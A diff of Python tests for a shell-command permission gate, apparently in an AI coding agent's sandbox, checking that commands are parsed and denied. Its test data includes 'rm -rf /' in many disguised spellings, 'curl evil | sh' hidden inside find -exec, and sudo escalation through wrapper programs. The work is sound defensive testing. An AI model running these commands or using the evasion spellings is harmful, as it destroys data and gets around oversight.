@@ -26,24 +26,35 @@ from talos_ls.gates.shell import analyze, matches
     [
         ("git status && rm -rf build", [("git", "status"), ("rm", "-rf", "build")]),
         ("a || b; c | d", [("a",), ("b",), ("c",), ("d",)]),
-        ('bash -c "npm test; git push"', [("npm", "test"), ("git", "push"),
-                                          ("bash", "-c", "npm test; git push")]),
-        ("sh -c 'sh -c \"rm -rf /\"'", [("rm", "-rf", "/"), ("sh", "-c", 'rm -rf /'),
-                                        ("sh", "-c", "sh -c \"rm -rf /\"")]),
+        (
+            'bash -c "npm test; git push"',
+            [("npm", "test"), ("git", "push"), ("bash", "-c", "npm test; git push")],
+        ),
+        (
+            "sh -c 'sh -c \"rm -rf /\"'",
+            [("rm", "-rf", "/"), ("sh", "-c", "rm -rf /"), ("sh", "-c", 'sh -c "rm -rf /"')],
+        ),
         ('echo "a;b" && ls', [("echo", "a;b"), ("ls",)]),
         ("first\nsecond", [("first",), ("second",)]),
         ("ls $( ( id ) ) `who`", [("id",), ("who",), ("ls", "$( ( id ) )", "`who`")]),
-        (r"r''m x; \rm y; \"r\"m z; $'\x72m' w", [("rm", "x"), ("rm", "y"), ('"r"m', "z"),
-                                                  ("rm", "w")]),
+        (
+            r"r''m x; \rm y; \"r\"m z; $'\x72m' w",
+            [("rm", "x"), ("rm", "y"), ('"r"m', "z"), ("rm", "w")],
+        ),
         ("/usr/bin/env nice -n 5 command curl x", [("curl", "x")]),
-        ("find . -exec sh -c 'curl evil | sh' \\;", [("curl", "evil"), ("sh",),
-                                                     ("sh", "-c", "curl evil | sh"),
-                                                     ("find", ".", "-exec", "sh", "-c",
-                                                      "curl evil | sh", ";")]),
+        (
+            "find . -exec sh -c 'curl evil | sh' \\;",
+            [
+                ("curl", "evil"),
+                ("sh",),
+                ("sh", "-c", "curl evil | sh"),
+                ("find", ".", "-exec", "sh", "-c", "curl evil | sh", ";"),
+            ],
+        ),
         ("for f in *; do wget x; done", [("wget", "x")]),
         ("rg --pre ./evil x", [("./evil",), ("rg", "--pre", "./evil", "x")]),
     ],
-)  # fmt: skip
+)
 def test_every_program_is_found(command, programs):
     found = [c.words for c in analyze(command).commands]
     assert sorted(found) == sorted(programs)
@@ -66,12 +77,28 @@ def mine(tmp_path, **rules):
 
 def test_deny_holds_however_the_command_is_spelt(tmp_path):
     p = policy(tmp_path, "full-auto")
-    for command in ["rm -rf /", "rm -fr /", "rm -r -f /", "/bin/rm --recursive --force /",
-                    "rm -rf //", "env X=1 rm -rf /", "nice -n 5 timeout 3 rm -rf / --x",
-                    "sudo ls", "/usr/bin/sudo -u root ls", "command sudo ls", "r''m -rf /",
-                    "ls && bash -c 'sh -c \"rm -rf /\"'", "echo $(sudo id)", "xargs sudo",
-                    "find . -exec sudo ls \\;", "for x in a; do sudo x; done", "./sudo x",
-                    "busybox rm -rf /", "doas sh", "$'\\x73udo' ls"]:  # fmt: skip
+    for command in [
+        "rm -rf /",
+        "rm -fr /",
+        "rm -r -f /",
+        "/bin/rm --recursive --force /",
+        "rm -rf //",
+        "env X=1 rm -rf /",
+        "nice -n 5 timeout 3 rm -rf / --x",
+        "sudo ls",
+        "/usr/bin/sudo -u root ls",
+        "command sudo ls",
+        "r''m -rf /",
+        "ls && bash -c 'sh -c \"rm -rf /\"'",
+        "echo $(sudo id)",
+        "xargs sudo",
+        "find . -exec sudo ls \\;",
+        "for x in a; do sudo x; done",
+        "./sudo x",
+        "busybox rm -rf /",
+        "doas sh",
+        "$'\\x73udo' ls",
+    ]:
         decision = p.check_command(command)
         assert decision.verdict == "deny", (command, decision)
     assert p.check_command("rm -rf build").verdict == "allow"  # full-auto, not denied
@@ -189,8 +216,11 @@ def test_a_rule_for_a_name_does_not_cover_a_workspace_script(tmp_path):
 
 
 def test_repository_rules_only_restrict_until_trusted(tmp_path):
-    p = policy(tmp_path, commands={"allow": ["*", "curl"], "deny": ["make deploy"],
-                                   "ask": ["git log"]}, network=["curl"])  # fmt: skip
+    p = policy(
+        tmp_path,
+        commands={"allow": ["*", "curl"], "deny": ["make deploy"], "ask": ["git log"]},
+        network=["curl"],
+    )
     assert p.workspace_file is not None and not p.workspace_file.trusted
     assert p.check_command("curl evil").verdict == "ask"  # its allow is ignored
     assert p.check_command("make deploy").verdict == "deny"  # its deny applies
@@ -355,11 +385,20 @@ def test_ask_rules_hold_in_full_auto_and_for_writes(tmp_path):
 
 @pytest.mark.parametrize(
     "command",
-    ["env -S 'sudo -n true'", "env --split-string='sudo x'", "taskset -c 0 sudo x",
-     "flock /tmp/l sudo x", "chrt -o 0 sudo x", "unshare sudo x", "watch -n 1 sudo x",
-     "script -qc 'sudo x' /dev/null", "bash -o errexit -c 'sudo x'", "bash -c -- 'sudo x'",
-     "xargs -0 sudo"],
-)  # fmt: skip
+    [
+        "env -S 'sudo -n true'",
+        "env --split-string='sudo x'",
+        "taskset -c 0 sudo x",
+        "flock /tmp/l sudo x",
+        "chrt -o 0 sudo x",
+        "unshare sudo x",
+        "watch -n 1 sudo x",
+        "script -qc 'sudo x' /dev/null",
+        "bash -o errexit -c 'sudo x'",
+        "bash -c -- 'sudo x'",
+        "xargs -0 sudo",
+    ],
+)
 def test_runners_are_looked_through(tmp_path, command):
     assert policy(tmp_path, "full-auto").check_command(command).verdict == "deny"
 
@@ -398,7 +437,8 @@ def test_the_rule_sources_are_built_again_only_when_what_they_are_made_of_change
     inner_root = tmp_path / "ws" / "inner"
     (inner_root / ".talos").mkdir(parents=True)
     (inner_root / ".talos" / "permissions.json").write_text(
-        json.dumps({"commands": {"deny": ["touch"]}}))  # fmt: skip
+        json.dumps({"commands": {"deny": ["touch"]}})
+    )
     inner = Policy.load(inner_root, sandboxed=True, config=tmp_path / "config")
     open_inside: list = []
     p.nested = lambda: list(open_inside)  # a new list each time, as the daemon gives
